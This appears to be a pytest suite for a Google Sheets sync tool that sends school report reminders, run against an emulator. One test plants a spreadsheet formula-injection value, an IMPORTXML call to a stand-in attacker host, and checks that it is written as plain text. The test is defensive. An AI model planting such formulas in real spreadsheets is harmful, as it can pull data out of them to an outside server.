"""The Google Sheets backend with the real gspread + google-auth, against the loopback emulator."""

from __future__ import annotations

from datetime import date

import pytest

from sheets_sync.cycle import run_cycle
from sheets_sync.errors import WorkbookError
from sheets_sync.mail.delivery import OutboxDelivery
from sheets_sync.workbook.google import GoogleUnavailable, GoogleWorkbook, spreadsheet_key
from sheets_sync.workbook.layout import input_headers
from tests.sample_workbook import (
    NOW,
    ROADMAP,
    TODAY,
    Sleeps,
    cycle,
    make,
    staff,
)


def test_a_cycle_reads_once_and_writes_once(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key)
    cycle(settings)  # the first run also lists the tabs: the generated ones don't exist yet
    google.emulator.reset_stats() if hasattr(google.emulator, "reset_stats") else None
    before = google.emulator.stats()["by_route"]
    result = cycle(settings, today=date(2020, 9, 15))
    after = google.emulator.stats()["by_route"]

    def count(route):
        return after.get(route, 0) - before.get(route, 0)

    assert count("GET /v4/spreadsheets/{id}") == 1
    assert count("POST /v4/spreadsheets/{id}:batchUpdate") == 1
    assert result.written and result.sent


def test_staff_tabs_are_never_written(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key)
    before = {t: google.emulator.values(key, t) for t in staff()}
    cycle(settings)
    cycle(settings, today=date(2020, 9, 15))
    assert {t: google.emulator.values(key, t) for t in staff()} == before
    writes = [
        r["body"]
        for r in google.emulator.requests()
        if r["method"] == "POST" and r["path"].endswith(":batchUpdate")
    ]
    staff_ids = {google.emulator.sheet_properties(key, t)["sheetId"] for t in staff()}
    assert len(writes) == 2
    assert not sheet_ids(writes) & staff_ids


def sheet_ids(node):
    """Return every sheetId a request body addresses."""
    if isinstance(node, dict):
        found = {node["sheetId"]} if "sheetId" in node else set()
        return found.union(*(sheet_ids(v) for v in node.values()))
    if isinstance(node, list):
        return set().union(*(sheet_ids(v) for v in node))
    return set()


def test_generated_tabs_hold_the_report_with_colours_and_formula_like_text_stays_text(google):
    roadmap = [
        *ROADMAP[:4],
        ["1", '=IMPORTXML("http://evil.example","//a")', "до 01.03.2020", "СОИРО"],
    ]
    key = google.spreadsheet(staff(roadmap=roadmap))
    cycle(google.settings(key))

    titles = google.emulator.sheet_titles(key)
    assert titles[4:] == ["Сводка", "Просрочено", "Сроки", "Проблемы", "Журнал рассылки"]
    deadlines = google.emulator.values(key, "Сроки")
    assert deadlines[1][2] == '=IMPORTXML("http://evil.example","//a")'
    assert google.emulator.cell(key, "Сроки", "C2")["userEnteredValue"] == {
        "stringValue": '=IMPORTXML("http://evil.example","//a")'
    }
    overdue = google.emulator.values(key, "Просрочено")
    assert overdue[1][:6] == [
        "1",
        '=IMPORTXML("http://evil.example","//a")',
        "СОИРО",
        "",
        "01.03.2020",
        "191",
    ]
    red = google.emulator.cell(key, "Просрочено", "F2")["userEnteredFormat"]["backgroundColor"]
    assert red["red"] > 0.9 > red["green"]


def test_the_google_cycle_writes_the_same_tabs_as_the_xlsx_cycle(google, project):

    make(project)
    xlsx = project.run(TODAY, now=NOW)
    key = google.spreadsheet(staff())
    result = cycle(google.settings(key))

    assert [e.subject for e in result.sent] == [e.subject for e in xlsx.sent]
    for tab in ("Сводка", "Просрочено", "Сроки", "Проблемы"):
        theirs = google.emulator.values(key, tab)
        ours = project.read_tab(tab)
        if tab == "Сводка":  # the source differs: a file path versus a spreadsheet key
            theirs[1], ours[1] = [theirs[1][0].split(" из ")[0]], [ours[1][0].split(" из ")[0]]
        assert theirs == ours, tab
    journal = [r[:6] for r in google.emulator.values(key, "Журнал рассылки")]
    assert journal == [r[:6] for r in project.read_tab("Журнал рассылки")]


def test_429_with_retry_after_and_5xx_are_retried_then_the_cycle_goes_on(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key)
    sleeps = Sleeps()
    google.emulator.inject(429, count=2, method="GET", path=r"^/v4/", retry_after=7)
    google.emulator.inject(503, count=1, method="POST", path=r":batchUpdate$")
    result = cycle(settings, GoogleWorkbook(settings, sleep=sleeps, jitter=lambda: 1.0))
    assert result.written
    assert sleeps[:2] == [7.0, 7.0]  # Retry-After honoured
    assert len(sleeps) == 3


def test_timeouts_and_malformed_replies_are_retried(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key, {"google": {"timeout_seconds": 0.2}})
    google.emulator.inject(200, count=1, method="GET", path=r"^/v4/", delay=0.6)
    google.emulator.inject(200, count=1, method="GET", path=r"^/v4/", malformed=True)
    sleeps = Sleeps()
    assert cycle(settings, GoogleWorkbook(settings, sleep=sleeps)).written
    assert len(sleeps) >= 2


def test_a_read_that_keeps_failing_sends_nothing(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key, {"google": {"retry_seconds": 10}})
    google.emulator.inject(503, count=50, method="GET", path=r"^/v4/")
    with pytest.raises(GoogleUnavailable, match=r"did not answer the input tabs \(HTTP 503"):
        cycle(settings, GoogleWorkbook(settings, sleep=Sleeps(), jitter=lambda: 1.0))
    assert not list((google.root / "outbox").glob("*.eml"))


def test_a_failed_write_after_emails_went_out_loses_nothing(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key, {"google": {"retry_seconds": 5}})
    google.emulator.inject(503, count=50, method="POST", path=r":batchUpdate$")
    with pytest.raises(GoogleUnavailable):
        cycle(settings, GoogleWorkbook(settings, sleep=Sleeps(), jitter=lambda: 1.0))
    sent = list((google.root / "outbox").glob("*.eml"))
    assert sent and "Журнал рассылки" not in google.emulator.sheet_titles(key)  # all or nothing

    google.emulator.clear_faults()
    again = cycle(settings)
    assert not again.sent  # nothing is sent twice
    journal = google.emulator.values(key, "Журнал рассылки")
    assert len(journal) == 1 + len(sent)  # the rows of the failed write arrive now


@pytest.mark.parametrize(
    ("setup", "message"),
    [
        (
            "unshared",
            (
                "is not shared with the service account: open it in Google Sheets, press Share "
                "and add sheets-sync@test-project.iam.gserviceaccount.com as an Editor"
            ),
        ),
        ("unknown", "there is no spreadsheet with the key"),
        ("no roadmap", "the spreadsheet has no tab «Дорожная карта»"),
        (
            "api disabled",
            (
                "the Google Sheets API is not enabled for the service account's project: open "
                "https://console.developers.google.com/apis/api/sheets.googleapis.com/overview"
            ),
        ),
    ],
)
def test_errors_a_coordinator_meets_name_the_fix(google, setup, message):
    tabs = staff()
    if setup == "no roadmap":
        tabs.pop("Дорожная карта")
    key = google.spreadsheet(tabs, shared=setup != "unshared")
    if setup == "unknown":
        key = "1NoSuchSpreadsheetKeyAtAll0000"
    if setup == "api disabled":
        google.emulator.disable_api()
    with pytest.raises(WorkbookError) as info:
        cycle(google.settings(key))
    assert message in str(info.value)


def test_a_key_google_does_not_know_is_reported_as_bad_credentials(google):
    key = google.spreadsheet(staff())
    deleted = google.emulator.service_account_info(email="old@test-project.iam.gserviceaccount.com")
    google.emulator.reset()  # the key was deleted in the console: Google no longer knows it
    google.emulator.register_service_account(google.key_info)
    with pytest.raises(WorkbookError, match="Google refused the service-account key"):
        GoogleWorkbook(google.settings(key, key_info=deleted)).read()


@pytest.mark.parametrize(
    ("text", "key"),
    [
        (
            "https://docs.google.com/spreadsheets/d/1AbC-def_123456789/edit#gid=0",
            "1AbC-def_123456789",
        ),
        ("1AbC-def_123456789", "1AbC-def_123456789"),
    ],
)
def test_a_spreadsheet_is_named_by_its_url_or_key(text, key):
    assert spreadsheet_key(text) == key


def test_a_spreadsheet_name_that_is_neither_says_what_to_paste():
    with pytest.raises(WorkbookError, match="copy the address from the browser"):
        spreadsheet_key("Дорожная карта 2020")


def test_init_puts_the_input_tabs_with_headers_into_an_empty_spreadsheet(google):
    key = google.spreadsheet({"Лист1": []})
    settings = google.settings(key)
    workbook = GoogleWorkbook(settings)
    added = workbook.init(input_headers(settings.tabs, settings.columns))
    assert added == ["Дорожная карта", "Школы", "Ответственные", "Сдача отчётов", "Журнал рассылки"]
    assert google.emulator.values(key, "Школы") == [
        ["Код", "Школа", "Email", "Контактное лицо", "Активна"]
    ]
    assert workbook.init(input_headers(settings.tabs, settings.columns)) == []


def test_sync_appends_columns_and_rows_and_moves_nothing(google, capsys, monkeypatch):
    from sheets_sync import cli

    submissions = [["Код", "Школа", "1 до 01.03.2020"], ["01", "Школа № 1", "сдано"]]
    key = google.spreadsheet(staff(submissions=submissions))
    settings = google.settings(key)
    assert cli.main(["sync", "--config", str(settings.source), "--today", "2020-09-08"]) == 0
    assert google.emulator.values(key, "Сдача отчётов") == [
        ["Код", "Школа", "1 до 01.03.2020", "1 до 01.06.2020", "2 до 10.09.2020"],
        ["01", "Школа № 1", "сдано"],
        ["02", "Школа № 2"],
    ]
    assert cli.main(["sync", "--config", str(settings.source), "--today", "2020-09-08"]) == 0
    assert "already has a column for every report" in capsys.readouterr().out


@pytest.mark.parametrize("which", ["region", "school"])
def test_the_demo_workbooks_give_the_same_tabs_through_google_and_xlsx(google, tmp_path, which):
    from sheets_sync.demo import build as demo
    from sheets_sync.settings.load import load_settings
    from sheets_sync.workbook.xlsx import XlsxWorkbook
    from tests.conftest import ROOT_CONFIG, read_tab

    name = {"region": "demo-region.toml", "school": "demo-school.toml"}[which]
    local = tmp_path / "local" / "config"
    local.mkdir(parents=True)
    local.joinpath(name).write_text(
        ROOT_CONFIG.joinpath(name).read_text(encoding="utf-8"), encoding="utf-8"
    )
    settings = load_settings(local / name, env={})
    build = {"region": demo.build_region, "school": demo.build_school}[which]
    build(settings.workbook.path, settings)
    day = {"region": demo.REGION_DAY, "school": demo.SCHOOL_DAY}[which]
    xlsx = XlsxWorkbook(settings.workbook.path, settings.tabs)
    grids = xlsx.read().tabs
    run_cycle(settings, xlsx, OutboxDelivery(settings.mail.outbox), today=day, now=NOW)

    key = google.spreadsheet(grids)
    via_google = google.settings(
        key,
        {
            "plan_year": settings.plan_year,
            "reminders": {
                "escalate_to": list(settings.reminders.escalate_to),
                "weekly_summary": settings.reminders.weekly_summary,
                "start_date": str(settings.reminders.start_date or day),  # the demo's first run
            },
            "mail": {"from": settings.mail.sender, "submit_url": settings.mail.submit_url},
        },
    )
    result = cycle(via_google, today=day)

    assert result.sent
    for tab in ("Сводка", "Просрочено", "Сроки", "Проблемы"):
        theirs = google.emulator.values(key, tab)
        ours = read_tab(settings.workbook.path, tab)
        if tab == "Сводка":  # the source differs: a file path versus a spreadsheet key
            theirs[1], ours[1] = [theirs[1][0].split(" из ")[0]], [ours[1][0].split(" из ")[0]]
        assert theirs == ours, tab


def test_a_tab_holding_only_its_header_is_written(google):
    key = google.spreadsheet(staff())
    settings = google.settings(key)
    cycle(settings, today=date(2020, 1, 9))  # nothing overdue yet: «Просрочено» is one row
    cycle(settings, today=date(2020, 1, 10))
    assert google.emulator.values(key, "Просрочено")[1] == ["Просроченных обязательств нет"]
    assert (
        google.emulator.sheet_properties(key, "Просрочено")["gridProperties"]["frozenRowCount"] == 1
    )


def test_a_frozen_header_alone_still_leaves_a_visible_row(google):
    from sheets_sync.report.tabs import Tab, row
    from sheets_sync.workbook.google_cells import tab_requests

    header_only = Tab("Пусто", (row("№", "Мероприятие", style="header"),), frozen_rows=1)
    (add, *_rest) = tab_requests(header_only, 7, exists=False)
    assert add["addSheet"]["properties"]["gridProperties"] == {
        "rowCount": 2,
        "columnCount": 2,
        "frozenRowCount": 1,
    }
    key = google.spreadsheet(staff())
    workbook = GoogleWorkbook(google.settings(key))
    workbook.write(workbook.read(), [header_only], [])
    assert google.emulator.values(key, "Пусто") == [["№", "Мероприятие"]]
